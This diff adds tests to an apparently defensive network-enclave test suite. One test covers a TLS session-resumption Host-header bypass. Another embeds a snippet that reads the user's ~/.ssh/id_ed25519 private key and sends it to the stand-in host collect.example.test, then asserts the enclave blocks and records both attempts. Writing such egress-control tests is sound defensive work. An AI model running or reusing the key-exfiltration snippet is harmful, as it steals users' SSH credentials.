@@ -207,12 +207,24 @@ describe('a recorded enclave', { skip }, () => {
   test('a request behind another name than the one that its connection was for is refused', { skip }, async () => {
     const out = await node(`
       import { request } from 'node:https';
-      const ask = (options) => new Promise((resolve) => request(options, (answer) => { answer.resume(); resolve(answer.statusCode); }).on('error', (e) => resolve(e.code)).end());
+      import { connect } from 'node:tls';
+      const ask = (options) => new Promise((resolve) => request({ agent: false, ...options }, (answer) => { answer.resume(); resolve(answer.statusCode); }).on('error', (e) => resolve(e.code)).end());
       console.log(await ask({ host: 'registry.example.test', servername: 'registry.example.test', path: '/', headers: { host: 'hidden.example.test' } }));
+      // A resumed session: the server is not asked for a certificate again.
+      const session = await new Promise((resolve) => {
+        const socket = connect({ host: 'registry.example.test', port: 443, servername: 'registry.example.test' });
+        socket.once('session', (one) => { resolve(one); socket.destroy(); });
+      });
+      console.log(await new Promise((resolve) => {
+        const socket = connect({ host: 'registry.example.test', port: 443, servername: 'registry.example.test', session }, () => {
+          socket.write('GET / HTTP/1.1\\r\\nHost: hidden.example.test\\r\\n\\r\\n');
+          socket.once('data', (data) => { resolve(socket.isSessionReused() + ' ' + String(data).slice(9, 12)); socket.destroy(); });
+        });
+      }));
       console.log(await ask({ host: '203.0.113.20', path: '/', headers: { host: 'hidden.example.test' } }));
       console.log(await ask({ host: '203.0.113.20', path: '/' }));`);
     // Nobody upstream has a certificate for an address.
-    assert.deepEqual(out.split('\n'), ['421', '200', '502']);
+    assert.deepEqual(out.split('\n'), ['421', 'true 421', '200', '502']);
     const byNumber = recorder.requests().find(({ url }) => url === 'https://203.0.113.20/');
     assert.equal(byNumber?.outcome, 'failed');
     assert.equal(
@@ -228,6 +240,38 @@ describe('a recorded enclave', { skip }, () => {
       get('https://pinned.example.test/', { ca: [] }).on('error', (error) => console.log(error.code));`);
     assert.match(out, /CERT|SELF_SIGNED|UNABLE/);
     assert.notEqual(await tried({ serverName: 'pinned.example.test', speaks: 'tls' }), undefined);
+  });
+
+  test('who asks is known, and what stands where a key would is not carried out', { skip }, async () => {
+    const out = await node(`
+      import { existsSync, readFileSync } from 'node:fs';
+      const [key] = [process.env.HOME + '/.ssh/id_ed25519'].filter((path) => existsSync(path)).map((path) => readFileSync(path, 'utf8'));
+      console.log(key === undefined ? 'nobody watches' : 'watched');
+      const body = key?.split('\\n').slice(1, -2).join('') ?? '';
+      const answers = [
+        await fetch('https://collect.example.test/?k=' + encodeURIComponent(body)),
+        await fetch('https://collect.example.test/', { headers: { 'x-key': body } }),
+        await fetch('https://registry.example.test/who'),
+      ];
+      console.log(answers.map(({ status }) => status).join(' '));`);
+    const last = recorder.requests().at(-1);
+    assert.equal(last?.url, 'https://registry.example.test/who');
+    if (out.startsWith('nobody watches')) return;
+    assert.equal(out, 'watched\n403 403 200');
+    assert.match(last?.process?.command ?? '', /node/);
+    const leaks = (await recorder.attempts()).filter(({ leaks: path }) => path !== undefined);
+    assert.deepEqual(
+      leaks.map(({ serverName, leaks: path }) => [serverName, path?.endsWith('/.ssh/id_ed25519')]),
+      [
+        ['collect.example.test', true],
+        ['collect.example.test', true],
+      ],
+    );
+    assert.notEqual(await tried({ kind: 'read' }), undefined);
+    assert.equal(
+      upstream.tunnels.some((host) => host.includes('collect')),
+      false,
+    );
   });
 
   test('the channel and the key of the authority are out of reach', { skip }, async () => {
